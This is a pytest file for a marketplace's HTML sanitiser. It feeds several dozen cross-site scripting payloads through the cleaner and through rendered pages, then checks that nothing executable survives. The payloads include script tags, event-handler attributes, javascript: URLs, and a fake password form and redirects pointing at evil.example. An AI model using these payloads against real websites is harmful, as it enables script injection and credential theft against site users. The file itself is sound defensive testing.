"""What shops write is cleaned when it is stored and when it is shown."""

from html.parser import HTMLParser

import pytest

from marketplace.catalog import html
from marketplace.catalog.content import OptionContent, ValueContent
from marketplace.catalog.models import Listing
from tests.factories.catalog import ListingFactory, sku
from tests.factories.shops import ShopFactory

EVIL = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href='\tjavascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<p onclick=alert(1)>x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style=position:fixed;inset:0>x</div>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<form action=//evil.example><input name=password><button>Pay</button></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{display:none}</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p hx-get=//evil.example hx-trigger=load>x</p>",
    "<p data-hx-on:click=alert(1)>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video><audio src onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)><select onfocus=alert(1) autofocus>",
    "<marquee onstart=alert(1)>x</marquee>",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "</title></script></textarea><script>alert(1)</script>",
    "{{ 7|add:7 }}{% debug %}",
    "<b\x00onclick=alert(1)>x</b>",
    '<a href="https://ok.example" onmouseover="alert(1)" target=_blank>x</a>',
]
ACTIVE = {
    "script",
    "iframe",
    "object",
    "embed",
    "base",
    "style",
    "animate",
    "mglyph",
    "video",
    "audio",
    "marquee",
}


class Watch(HTMLParser):
    """Reads a page and keeps what could run."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        ours = attributes.get("src", "").startswith("/static/")
        if tag in ACTIVE and not ours:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            told = (value or "").strip().lower()
            if name.startswith("on") or name.startswith("hx-on") or name.startswith("data-hx"):
                self.found.append(f"{tag} {name}")
            if name in ("href", "src", "action", "formaction") and "evil.example" in told:
                self.found.append(f"{tag} {name}={told}")
            if name in ("href", "src") and told.split(":")[0].strip() in ("javascript", "vbscript", "data"):
                self.found.append(f"{tag} {name}={told}")
            if name == "style":
                self.found.append(f"{tag} style")
            if name in ("hx-get", "hx-post") and not told.startswith("/"):
                self.found.append(f"{tag} {name}={told}")


def running(page: str) -> list[str]:
    watch = Watch()
    watch.feed(page)
    return watch.found


@pytest.mark.parametrize("evil", EVIL)
def test_a_cleaned_text_holds_nothing_that_runs_and_stays_as_it_is(evil):
    once = html.clean(f"<p>Before</p>{evil}<p>After</p>")

    assert running(once) == []
    assert html.clean(once) == once


def test_what_a_description_may_hold_is_kept():
    text = (
        "<h3>Care</h3><p>Wax it <b>once</b> a year.</p><ul><li>Brass</li></ul>"
        '<p><a href="https://jishi.example/" rel="nofollow noopener ugc">More</a></p>'
    )

    assert html.clean(text) == text


def test_a_plain_summary_has_words_only():
    assert html.plain("<p>Cut &amp; waxed</p><ul><li>by hand</li></ul>") == "Cut & waxed by hand"


@pytest.mark.django_db
def test_every_place_a_shop_writes_in_is_harmless_on_every_page(client):
    for number, evil in enumerate(EVIL):
        told = evil.replace("\x00", "")
        shop = ShopFactory(
            line_en=told[:160], story_en=told, name_en=f"Shop {'abcdefghk'[number % 9]}{number}"
        )
        shop.notice_en = told[:300]
        shop.save()
        listing = ListingFactory(
            shop=shop,
            title_en=f"Backpack {evil}"[:255],
            title_zh="",
            description_en=evil,
            brand=evil[:255],
            tags=(evil[:255],),
            options=(OptionContent((ValueContent(evil[:255]),), evil[:255]),),
            skus=(sku("9.00", 0),),
        )
        # What came into the database by another door is cleaned on its way out, too.
        Listing.objects.filter(pk=listing.pk).update(description_en=told)

        for address in (listing.get_absolute_url(), f"/shops/{shop.slug}/"):
            page = client.get(address)
            assert (page.status_code, running(page.content.decode())) == (200, []), (address, evil)

    for address in ("/", "/search/?q=backpack", "/categories/lb/bags/", "/shops/"):
        assert running(client.get(address).content.decode()) == []


@pytest.mark.django_db
def test_letters_that_turn_others_are_taken_out_of_titles():
    listing = ListingFactory(title_en="Back\u202epack", title_zh="双\u2066肩\u2069包")

    assert (listing.title_en, listing.title_zh) == ("Backpack", "双肩包")
